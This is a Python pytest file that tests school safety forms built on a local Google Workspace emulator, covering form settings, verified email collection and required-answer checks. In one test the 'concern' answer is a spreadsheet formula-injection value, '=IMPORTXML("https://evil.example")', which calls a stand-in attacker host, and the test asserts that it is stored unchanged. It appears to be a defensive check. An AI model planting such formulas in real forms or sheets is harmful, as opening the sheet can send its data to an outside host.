"""The forms on the local Workspace: made through Google's client, filled in as in a browser."""

import pytest
from werkzeug.test import Client

from emulator.app import create_app
from emulator.inprocess import Http
from service.google import Session
from service.google.access import LocalAccess
from service.google.forms import GoogleForms
from service.workbook.crisis import crisis_for
from service.workbook.form_answers import read_response
from service.workbook.forms import form_requests, load_form
from service.workbook.wording import load_wording

ROOT = "http://workspace.test"


class Founded:
    """One form, made and published by the admin."""

    def __init__(self, key):
        self.app = create_app()
        self.template = load_form(key)
        session = Session(LocalAccess(), ROOT, transport=lambda: Http(self.app))
        self.forms = GoogleForms(session, "admin@holdfast.example")
        self.form_id = self.forms.create(self.template.title)
        requests = form_requests(self.template, crisis_for("US", load_wording("en").say))
        self.forms.batch_update(self.form_id, {"requests": requests})
        self.forms.publish(self.form_id)

    def fill_in(self, page, person="", **answers):
        """Posts what a browser would, answers by question key and in the words of the form."""
        pages = {question.key: p.key for p, question in self.template.questions()}
        places = {question.key: page for p, question in self.template.questions() if p.key == page}
        fields = {
            f"entry.{int(self.template.question_id((pages | places)[key], key), 16)}": text
            for key, text in answers.items()
        }
        headers = {"Authorization": f"Bearer as:{person}"} if person else {}
        url = f"/forms/d/e/{self.form_id}/formResponse"
        return Client(self.app).post(url, data=fields, headers=headers).status_code

    def responses(self):
        return [read_response(self.template, raw) for raw in self.forms.responses(self.form_id, "")]


@pytest.fixture(params=["inside", "outside"])
def founded(request):
    return Founded(request.param)


def test_the_form_stands_as_its_file_says(founded):
    form = founded.forms.get(founded.form_id)
    assert form["info"]["title"] == founded.template.title
    assert "911" in form["info"]["description"]
    wanted = {"inside": "VERIFIED", "outside": "DO_NOT_COLLECT"}[founded.template.key]
    assert form["settings"]["emailCollectionType"] == wanted
    asked = [item["title"] for item in form["items"] if "questionItem" in item]
    assert asked == [question.ask for _, question in founded.template.questions()]


def test_danger_takes_three_answers_and_is_sent(founded):
    status = founded.fill_in(
        "danger",
        person="nora@school.example",
        danger="Yes",
        adult_here="No",
        student_name="Ana",
        concern='=IMPORTXML("https://evil.example")',
    )
    assert status == 200
    (response,) = founded.responses()
    assert response.answers["danger"] == "yes"
    assert response.answers["concern"].startswith("=IMPORTXML")
    verified = "nora@school.example" if founded.template.key == "inside" else ""
    assert response.respondent == verified


def test_without_danger_the_whole_form_is_asked(founded):
    answers = {"danger": "No", "adult_here": "No", "student_name": "Ana", "concern": "Tired."}
    person = "nora@school.example"
    assert founded.fill_in("worry", person, **answers) == 400  # who are you to the student?
    question = next(q for _, q in founded.template.questions() if q.key == "relationship")
    answers |= {"relationship": question.options[0].say, "reach": "ana@x.example"}
    assert founded.fill_in("worry", person, **answers) == 200
    (response,) = founded.responses()
    assert response.answers["relationship"] == question.options[0].value
    assert response.answers["strengths"] == ""
